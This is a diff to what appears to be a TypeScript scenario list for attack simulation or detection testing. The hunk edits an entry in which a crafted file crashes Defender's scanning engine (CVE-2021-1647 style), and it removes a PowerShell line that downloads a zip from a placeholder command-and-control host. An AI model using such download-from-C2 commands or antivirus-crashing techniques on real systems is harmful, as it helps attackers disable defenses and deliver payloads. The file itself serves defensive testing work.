@@ -185,12 +185,13 @@ export const defenseEvasion2 = [
         { elevated: true },
       ),
       // A file crafted to hit a memory-corruption bug in mpengine (CVE-2021-1647 style): Defender scans it on
-      // write and its service process dies with an access violation in the engine.
+      // write and its service process dies with an access violation in the engine. The file only has to land
+      // on disk: a link the user follows in the browser is enough.
       v(
         "mpengine-crash",
         [
           {
-            ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile {{downloads}}\\{{rand}}.zip",
+            by: "@msedge",
             net: [["{{c2}}", 443]],
             files: ["{{downloads}}\\{{rand}}.zip"],
             then: [
@@ -205,7 +206,7 @@ export const defenseEvasion2 = [
             ],
           },
         ],
-        { shell: "ps" },
+        { shell: "none" },
       ),
       // CurveBall (CVE-2020-0601): a payload signed with a spoofed ECC certificate; on a patched host crypt32 in
       // the Explorer process verifying the Mark-of-the-Web publisher reports the attempt through CveEventWrite.
